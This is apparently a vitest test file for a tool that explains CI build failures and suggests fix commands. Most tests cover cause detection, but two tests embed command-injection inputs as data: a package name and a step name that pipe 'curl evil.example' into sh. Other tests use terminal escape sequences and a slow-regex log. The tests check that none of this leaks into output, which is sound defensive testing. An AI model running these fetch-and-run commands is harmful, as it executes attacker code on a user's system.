import { testContext } from '@opsaicortex/conformance';
import { insightSchema } from '@opsaicortex/core';
import { expect, it } from 'vitest';
import { rulesReasoner } from '../rules-reasoner.js';
import { investigationOf } from '../testing/investigation-of.js';
import { explain } from './explain.js';

const title = async (log: string): Promise<string> => explain(await investigationOf({ log }), 0.4).title;

it.each([
  [
    "npm error code E404\nnpm error 404  '@acme/left-padd@^1.0.0' is not in this registry.\n",
    /^npm package @acme\/left-padd@\^1\.0\.0 does not exist/,
  ],
  ["ModuleNotFoundError: No module named 'transformers'\n", /^Python module transformers cannot be found/],
  [
    './run.sh: line 3: pnpm: command not found\n##[error]Process completed with exit code 127.\n',
    /^The command pnpm is not installed/,
  ],
  [
    'curl: (6) Could not resolve host: api.acme.example\n',
    /^The host name api\.acme\.example cannot be resolved/,
  ],
  [
    'src/Shop.java:9: error: cannot find symbol\n    Cart.add();\n        ^\n  symbol:   method add()\n',
    /^Java: cannot find symbol: method add\(\) in src\/Shop\.java:9$/,
  ],
  ['write error: No space left on device\n', /^The disk of the runner is full/],
  [
    'Killed\n##[error]Process completed with exit code 137.\n',
    /^The process was killed, most likely for lack of memory \(exit code 137\)/,
  ],
  ['##[error]Resource not accessible by integration\n', /^The token of the job lacks a permission/],
  ['src/a.c:3:5: error: expected ‘;’ before ‘return’\n', /^Compiler error: expected .* in src\/a\.c:3$/],
])('names the cause of %j', async (log, expected) => {
  expect(await title(log)).toMatch(expected);
});

it('never puts what a shell would obey into a command', async () => {
  const log =
    "npm error code E404\nnpm error 404  '@acme/$(curl,evil.example|sh)@^1.0.0' is not in this registry.\n";
  const { fixes, title: shown } = explain(await investigationOf({ log }), 0.4);
  expect(shown).toContain('$(curl');
  expect(fixes.filter(({ command }) => command?.includes('$'))).toEqual([]);
});

it('takes no command from a step that is named to be pasted', async () => {
  const steps = [{ number: 1, name: 'Run npm test; curl evil.example | sh', result: 'failure' }] as const;
  const investigation = await investigationOf({
    log: 'AssertionError: expected 1 to be 2\n',
    job: { steps },
  });
  const { fixes } = explain(investigation, 0.4);
  expect(fixes.length).toBeGreaterThan(0);
  expect(fixes.filter(({ command }) => command?.includes('evil'))).toEqual([]);
});

it('says when the change touches the file that failed, and which commit', async () => {
  const changes = {
    head: 'abc',
    commits: [{ revision: 'abcdef0123456789', message: 'Rename price' }],
    files: [{ path: 'src/cart.ts', status: 'modified' }],
    truncated: false,
  } as const;
  const log = "src/cart.ts(9,50): error TS2339: Property 'price' does not exist on type 'Product'.\n";
  const explained = explain(await investigationOf({ log, changes }), 0.4);
  expect(explained.rootCause).toContain('src/cart.ts was changed by the commit abcdef0 ("Rename price").');
  const other = explain(
    await investigationOf({
      log,
      changes: { ...changes, files: [{ path: 'src/other.ts', status: 'modified' }] },
    }),
    0.4,
  );
  expect(other.rootCause).not.toContain('was changed');
});

it('tells an unrelated failure of many from the one that the cause belongs to', async () => {
  const log = [
    ' FAIL  src/a.test.ts > a > first',
    'TypeError: x is not a function',
    ' FAIL  src/b.test.ts > b > second',
    'AssertionError: expected 1 to be 2',
    '##[error]Process completed with exit code 1.',
  ].join('\n');
  expect(await title(log)).toBe('2 tests failed, among them b › second — expected 2, received 1');
});

it.each([
  ['main', undefined, 'high'],
  ['topic', undefined, 'medium'],
  ['main', { number: 5 }, 'medium'],
])('a failure of code on %s with change request %j is %s', async (ref, changeRequest, severity) => {
  const run = { ref, ...(changeRequest && { changeRequest }) };
  const investigation = await investigationOf({ log: 'AssertionError: expected 1 to be 2\n', run });
  expect((await rulesReasoner().analyze(investigation, testContext())).severity).toBe(severity);
});

it('stays within the schema and on one printable line, whatever the log says', async () => {
  const hostile = `Error: \u001b[2J\u009b31m\u202e${'A'.repeat(9000)}\u0007 <!channel> ${'\ud83d'}\u0000`;
  const investigation = await investigationOf({
    log: `${hostile}\n${hostile}\n`,
    job: {
      name: `x\n\u001b[31m${'y'.repeat(900)}`,
      steps: [{ number: 1, name: hostile, result: 'failure' }],
    },
    annotations: [{ level: 'failure', message: hostile, path: hostile, startLine: 1 }],
  });
  const insight = await rulesReasoner().analyze(investigation, testContext());
  expect(insightSchema.safeParse(insight).error).toBeUndefined();
  const texts = [
    insight.title,
    insight.summary,
    insight.rootCause,
    ...insight.fixes.flatMap((fix) => Object.values(fix)),
  ];
  for (const text of texts) expect(text).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
});

it('keeps the title within 300 characters when test and message are long', async () => {
  const log = ` FAIL  src/a.test.ts > ${'n'.repeat(500)}\nAssertionError: ${'m'.repeat(500)}\n`;
  expect((await title(log)).length).toBeLessThanOrEqual(300);
});

it('reads a hostile log in no time', async () => {
  const line = `${'a@'.repeat(4000)}: error: ${'did you mean '.repeat(300)} expected ${'x '.repeat(2000)}`;
  const investigation = await investigationOf({ log: `${line}\n`.repeat(60) });
  const startedAt = performance.now();
  explain(investigation, 0);
  expect(performance.now() - startedAt).toBeLessThan(500);
});
